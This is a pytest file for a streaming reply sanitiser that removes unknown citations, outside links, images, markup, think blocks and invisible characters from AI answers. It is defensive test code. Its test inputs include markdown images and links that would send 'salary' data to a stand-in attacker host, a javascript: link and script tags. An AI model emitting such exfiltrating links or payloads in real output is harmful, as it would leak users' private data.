from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hxd_desktop.engine.answering.cleaning import ReplyCleaner

KNOWN = "The form is at https://intranet.example/form?id=3. Ask there."


def cleaned(reply: str, *, pieces: bool = False) -> str:
    cleaner = ReplyCleaner((1, 2), (KNOWN,))
    if pieces:
        return "".join(cleaner.feed(character) for character in reply) + cleaner.close()
    return cleaner.feed(reply) + cleaner.close()


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        ("Yes [1]. No [9].", "Yes [1]. No ."),
        ("Both [1, 2][9].", "Both [1][2]."),
        ("是的[1，7]。", "是的[1]。"),
        ("[1](https://evil.example/?q=salary)", "[1]"),
        ("[9](https://evil.example)", ""),
        ("![x](https://evil.example/?q=salary) ok", "x ok"),
        ("![](https://evil.example/a.png)ok", "ok"),
        ("![x][1] ok", "x ok"),
        ("[the form](https://evil.example) [js](javascript:alert(1))", "the form js)"),
        ("![a [9]](https://evil.example)", "![a ]([…])"),
        ("at https://intranet.example/form?id=3.", "at https://intranet.example/form?id=3."),
        ("at https://intranet.example/form?id=3&q=salary.", "at […]."),
        ("见https://evil.example/工资。", "见[…]。"),
        ("www.evil.example, HTTPS://EVIL.example", "[…], […]"),
        ("<https://evil.example> <https://intranet.example/form?id=3>", "[…] https://intranet.example/form?id=3"),
        ("[1]: https://evil.example", "[1]: […]"),
        ('<img src="https://evil.example">a<br>b<script>x</script>', "abx"),
        ("<!-- [1] --> <think>the user\n\nwants [9]</think>\nYes.", " \nYes."),
        ("<think>never ends\nand on", ""),
        ("a < b, List<String>, x <y", "a < b, List<String>, x <y"),
        ("`[9]` and `<b>`", "`[9]` and `<b>`"),
        ("```html\n<img src=x> [9]\n``` [9]", "```html\n<img src=x> [9]\n``` "),
        ("one ` tick [9] https://evil.example", "one ` tick  […]"),
        ("~~~\nwww.evil.example\n~~~", "~~~\nwww.evil.example\n~~~"),
        ("a\u202eb\u200b[1\u200b] \U000e0041", "ab[1] "),
        ("Wow! www h ht", "Wow! www h ht"),
        ("[not a link] and [x", "[not a link] and [x"),
    ],
)
def test_what_a_reply_may_show(reply: str, expected: str) -> None:
    assert cleaned(reply) == expected
    assert cleaned(reply, pieces=True) == expected


BITS = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", "`", "```", "~~~", "\n", "9", "1", "a", " ", "img ", "/", "http://",
     "evil.example", "www.", "<think>", "</think>", "<!--", "-->", "，", "."]
)  # fmt: skip


@given(st.lists(BITS, max_size=25))
def test_how_it_is_cut_into_pieces_changes_nothing(bits: list[str]) -> None:
    whole = cleaned("".join(bits))
    cleaner = ReplyCleaner((1, 2), (KNOWN,))
    assert "".join(cleaner.feed(bit) for bit in bits) + cleaner.close() == whole
    assert cleaned("".join(bits), pieces=True) == whole


def test_ordinary_text_is_not_held_back() -> None:
    cleaner = ReplyCleaner((1,), ())
    assert [cleaner.feed(piece) for piece in ("Twelve", " days", ", if a < b", " they", " say")] == [
        "Twelve", " days", ", if a < b", " they", " say",
    ]  # fmt: skip


def test_something_without_an_end_is_let_go() -> None:
    cleaner = ReplyCleaner((1,), ())
    shown = cleaner.feed("[" + "x" * 700)
    assert len(shown) == 701


def test_what_was_removed_is_counted() -> None:
    cleaner = ReplyCleaner((1,), ())
    cleaner.feed("a [7] ![x](y) <b> https://evil.example [9].")
    cleaner.close()
    assert dict(cleaner.removed) == {"citations": 2, "pictures": 1, "markup": 1, "links": 1}
